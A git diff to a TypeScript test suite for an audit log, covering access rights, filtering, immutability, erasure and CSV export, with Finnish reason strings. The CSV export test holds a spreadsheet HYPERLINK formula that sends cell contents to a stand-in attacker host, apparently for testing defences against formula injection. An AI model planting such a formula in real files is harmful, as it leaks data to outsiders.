@@ -2,6 +2,7 @@ import {
   allHttpRoutes,
   auditEntrySchema,
   clientEvents,
+  type AuditAction,
   type AuditEntry,
 } from '@yhteistyotila/protocol';
 import { Types } from 'mongoose';
@@ -60,7 +61,7 @@ describe('who reads the audit log', () => {
   it('moderators and admins list and export it; a member gets FORBIDDEN for both', async () => {
     await recordAudit({
       actorId: mod.id,
-      action: 'test.visible',
+      action: 'test.visible' as AuditAction,
       targetType: 'user',
       targetId: member.id,
     });
@@ -91,33 +92,33 @@ describe('filters and pages', () => {
     await recordAudit({
       ...base,
       actorId: actor,
-      action: 'test.f',
+      action: 'test.f' as AuditAction,
       reason: 'Kiusaamista kanavalla',
       at: day('2026-08-30T10:00:00Z'),
     });
     await recordAudit({
       ...base,
       actorId: actor,
-      action: 'test.f',
+      action: 'test.f' as AuditAction,
       reason: 'roskapostia',
       at: day('2026-09-02T10:00:00Z'),
     });
     await recordAudit({
       ...base,
       actorId: other,
-      action: 'test.f',
+      action: 'test.f' as AuditAction,
       reason: 'toistuvaa KIUSAAMISTA',
       at: day('2026-09-15T10:00:00Z'),
     });
     await recordAudit({
       ...base,
       actorId: actor,
-      action: 'test.g',
+      action: 'test.g' as AuditAction,
       at: day('2026-10-01T10:00:00Z'),
     });
     await recordAudit({
       actorId: actor,
-      action: 'test.f',
+      action: 'test.f' as AuditAction,
       targetType: 'user',
       targetId: newId(),
       at: day('2026-10-05T10:00:00Z'),
@@ -129,7 +130,7 @@ describe('filters and pages', () => {
   const times = (entries: AuditEntry[]) => entries.map((e) => e.at.slice(0, 10));
 
   it('by action and actor (equalities), newest first', async () => {
-    expect(times(await list({ action: 'test.f', actorId: actor }))).toEqual([
+    expect(times(await list({ action: 'test.f' as AuditAction, actorId: actor }))).toEqual([
       '2026-10-05',
       '2026-09-02',
       '2026-08-30',
@@ -196,7 +197,7 @@ describe('the CSV export', () => {
     const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")';
     await recordAudit({
       actorId: mod.id,
-      action: 'test.csv',
+      action: 'test.csv' as AuditAction,
       targetType: 'user',
       targetId: target,
       reason: formula,
@@ -233,7 +234,7 @@ describe('never editable', () => {
   it('answers attempts to change an entry as unknown, and the entry stays', async () => {
     await recordAudit({
       actorId: mod.id,
-      action: 'test.keep',
+      action: 'test.keep' as AuditAction,
       targetType: 'user',
       targetId: member.id,
       reason: 'alkuperäinen',
@@ -261,14 +262,14 @@ describe('erasure of the subject', () => {
     const subject = newId();
     await recordAudit({
       actorId: mod.id,
-      action: 'test.erase',
+      action: 'test.erase' as AuditAction,
       targetType: 'user',
       targetId: subject,
       reason: 'Maija kirjoitti lapsen nimen',
     });
     await recordAudit({
       actorId: subject,
-      action: 'test.erase',
+      action: 'test.erase' as AuditAction,
       targetType: 'user',
       targetId: newId(),
       reason: 'hänen oma perustelunsa toisesta',
